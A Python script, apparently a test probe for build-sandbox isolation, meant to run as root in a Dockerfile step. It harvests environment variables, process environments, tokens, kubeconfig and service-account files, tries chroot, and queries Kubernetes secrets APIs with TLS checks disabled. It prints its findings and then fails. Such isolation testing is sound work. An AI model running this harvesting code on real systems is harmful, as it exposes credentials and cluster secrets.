"""Run as the image's root in a Dockerfile's RUN step: print what of the worker it can find, then fail."""

import contextlib
import glob
import os
import ssl
import urllib.error
import urllib.request
from pathlib import Path

print("EVIL id", os.getuid(), flush=True)
for key in sorted(os.environ):
    print(f"EVIL env {key}={os.environ[key][:60]}")
for environ in glob.glob("/proc/[0-9]*/environ"):
    try:
        entries = Path(environ).read_bytes().split(b"\0")
        names = [e.split(b"=", 1)[0].decode(errors="replace") for e in entries if e]
        print("EVIL environ", environ, " ".join(names))
    except OSError as exc:
        print("EVIL environ", environ, "unreadable", exc.errno)
wanted = ("token", "secret.key", "spaceyard.db", "kubeconfig", "ca.crt", "namespace")
roots = ["/", *glob.glob("/proc/[0-9]*/root/")]
for root in roots:
    try:
        print("EVIL sees", root, sorted(os.listdir(root))[:40])
    except OSError as exc:
        print("EVIL sees", root, "nothing", exc.errno)
    for dirpath, dirnames, filenames in os.walk(root):
        if dirpath.count("/") > 7 or dirpath.startswith(("/proc/", "/sys")) and root == "/":
            dirnames[:] = []
            continue
        dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "usr", "dev")]
        for name in filenames:
            path = os.path.join(dirpath, name)
            if name in wanted or "serviceaccount" in path:
                with contextlib.suppress(OSError):
                    print("EVIL read", path, Path(path).read_bytes()[:40])
try:
    os.chroot("/tmp")
    print("EVIL chroot worked")
except OSError as exc:
    print("EVIL chroot refused", exc.errno)
ctx = ssl.create_default_context()
ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
for url in (
    "https://10.96.0.1/api/v1/secrets",
    "https://127.0.0.1:6443/api/v1/secrets",
    "https://kubernetes.default.svc/api/v1/secrets",
):
    try:
        with urllib.request.urlopen(url, timeout=5, context=ctx) as r:
            print("EVIL api", url, r.status, r.read(200))
    except urllib.error.HTTPError as exc:
        print("EVIL api", url, "refused", exc.code)
    except OSError as exc:
        print("EVIL api", url, "unreachable", type(exc).__name__)
print("EVIL done", flush=True)
raise SystemExit(1)
